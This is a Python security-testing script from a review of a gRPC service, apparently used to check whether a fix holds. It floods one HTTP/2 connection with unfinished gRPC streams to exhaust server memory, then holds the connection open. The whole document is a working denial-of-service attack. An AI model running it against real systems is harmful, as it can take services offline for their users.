"""N4 attack (the second security review's h2mem.py, adapted to run against the fixed server too).

One HTTP/2 connection, no credential: NSTREAMS `Locks/Status` streams, each sending PER bytes of
a gRPC message that announces 65,000 and is never finished; then the connection is held for
HOLD seconds. Changes from the review's script: streams the server ends (trailers or
RST_STREAM) are dropped from the send loop instead of crashing it, the hold keeps answering
the server's pings (so the connection is held, not dropped by the keepalive timeout), and the
end prints how the server answered the streams.

    python3 h2mem.py HOST PORT NSTREAMS PER HOLD_SECONDS
"""
import collections, socket, struct, sys, time

import h2.config, h2.connection, h2.events, h2.exceptions

host, port, nstreams, per, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
s = socket.create_connection((host, port)); s.settimeout(0.05)
c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
c.initiate_connection(); s.sendall(c.data_to_send())
statuses = collections.Counter()   # grpc-status (or "reset") of each stream the server ended
ended = set()
closed = None


def pump():
    global closed
    try:
        while True:
            d = s.recv(1 << 20)
            if not d:
                closed = closed or "closed by server"
                return
            for ev in c.receive_data(d):
                if isinstance(ev, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                    st = dict((k.decode(), v.decode()) for k, v in ev.headers).get("grpc-status")
                    if st is not None and ev.stream_id not in ended:
                        ended.add(ev.stream_id); statuses[f"grpc-status {st}"] += 1
                elif isinstance(ev, h2.events.StreamReset) and ev.stream_id not in ended:
                    ended.add(ev.stream_id); statuses["reset"] += 1
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    closed = f"GOAWAY {ev.error_code!r} {ev.additional_data!r}"
    except socket.timeout:
        pass
    except OSError as e:
        closed = closed or f"socket error {e}"
        return
    out = c.data_to_send()
    if out:
        try:
            s.sendall(out)
        except OSError as e:
            closed = closed or f"socket error {e}"


pump()
payload = b"\x00" + struct.pack(">I", 65000) + b"\x0a" * (per - 5)   # a gRPC frame announcing 65000 bytes, never finished
pending = {}
for i in range(nstreams):
    sid = c.get_next_available_stream_id()
    c.send_headers(sid, [(":method", "POST"), (":scheme", "http"), (":path", "/palisade.v1.Locks/Status"), (":authority", "x"), ("content-type", "application/grpc"), ("te", "trailers")])
    pending[sid] = payload
t0 = time.time()
while pending and time.time() - t0 < 60 and not closed:
    for sid in list(pending):
        if sid in ended:
            del pending[sid]; continue
        data = pending[sid]
        try:
            n = min(len(data), c.local_flow_control_window(sid), c.max_outbound_frame_size)
            if n > 0:
                c.send_data(sid, data[:n]); pending[sid] = data[n:]
                if not pending[sid]:
                    del pending[sid]
        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
            del pending[sid]
    try:
        s.sendall(c.data_to_send())
    except OSError as e:
        closed = closed or f"socket error {e}"
    pump()
print(f"sent {nstreams} streams x {per} bytes in {time.time()-t0:.1f}s, {len(pending)} streams still blocked by flow control", flush=True)
t1 = time.time()
while time.time() - t1 < hold and not closed:
    pump(); time.sleep(0.2)
print(f"held {time.time()-t1:.1f}s; server ended {len(ended)} of {nstreams} streams: {dict(statuses)}; connection: {closed or 'open'}", flush=True)
